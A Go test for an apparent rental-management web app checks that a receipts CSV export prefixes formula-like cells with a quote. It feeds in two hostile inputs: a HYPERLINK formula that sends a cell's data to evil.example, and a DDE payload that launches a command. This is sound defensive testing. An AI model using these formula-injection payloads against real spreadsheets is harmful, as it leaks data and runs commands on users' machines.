package web_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	"mietwerk.dev/mietwerk/adapter/store"
	"mietwerk.dev/mietwerk/contract"
	"mietwerk.dev/mietwerk/identity"
)

// TestReceiptsCSVNeutralisesFormulas: a receipt reference, a reversal
// reason and a reference typed by staff that a spreadsheet would run as a
// formula are exported as text (a single quote in front); the amounts,
// also the negative reversal, stay numbers.
func TestReceiptsCSVNeutralisesFormulas(t *testing.T) {
	eachDBDialect(t, func(t *testing.T, d store.Dialect) {
		ce := newCtEnv(t, d)
		reg := returnedWithoutCard(t, ce, "reg")["reg"]
		ce.clk.Advance(time.Hour) // 2026-11-28 12:00 UTC
		svc := contract.NewService(storeContractDeps(ce.store, ce.clk.Now))
		u := ce.station
		staff := identity.WithActor(context.Background(), identity.Actor{Kind: identity.ActorUser, TenantID: ce.tenant.ID, UserID: u.ID,
			Name: u.Name, Role: u.Role, StationIDs: u.StationIDs})
		evil := `=HYPERLINK("http://evil.example/?d="&A1,"Beleg")`
		term, err := svc.RecordReceipt(staff, reg.ID, contract.Receipt{Method: contract.MethodTerminal, AmountCents: 3000, Reference: evil, ReceivedOn: "2026-11-28"})
		must(t, err)
		_, err = svc.ReverseReceipt(staff, reg.ID, term.ID, "@SUM(1+1)*cmd|' /C calc'!A0")
		must(t, err)
		_, err = svc.RecordReceipt(staff, reg.ID, contract.Receipt{Method: contract.MethodCash, AmountCents: 6800, Reference: "+49 941 17", ReceivedOn: "2026-11-28"})
		must(t, err)

		c := ce.client(t)
		c.mustLogin(stationEmail)
		p := c.get("/admin/reports/receipts.csv?day=2026-11-28")
		wantStatus(t, p, http.StatusOK)
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.body, "\ufeff")))
		r.Comma, r.FieldsPerRecord = ';', -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("CSV: %v\n%s", err, p.body)
		}
		cells := map[string]bool{}
		for _, row := range rows {
			for _, c := range row {
				cells[c] = true
				if len(c) > 0 && strings.ContainsRune("=+@\t\r", rune(c[0])) {
					t.Errorf("cell %q would run as a formula", c)
				}
			}
		}
		// amounts are bare numbers a spreadsheet sums (the heading names
		// the currency)
		for c := range cells {
			if strings.HasSuffix(c, "€") && !strings.HasSuffix(c, "(€)") {
				t.Errorf("cell %q carries the currency: a spreadsheet keeps it as text", c)
			}
		}
		if !cells["Betrag (€)"] {
			t.Errorf("no column heading names the amounts' currency:\n%s", p.body)
		}
		for _, want := range []string{"'" + evil, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+49 941 17", "-30,00", "68,00"} {
			if !cells[want] {
				t.Errorf("CSV lacks the cell %q:\n%s", want, p.body)
			}
		}
	})
}
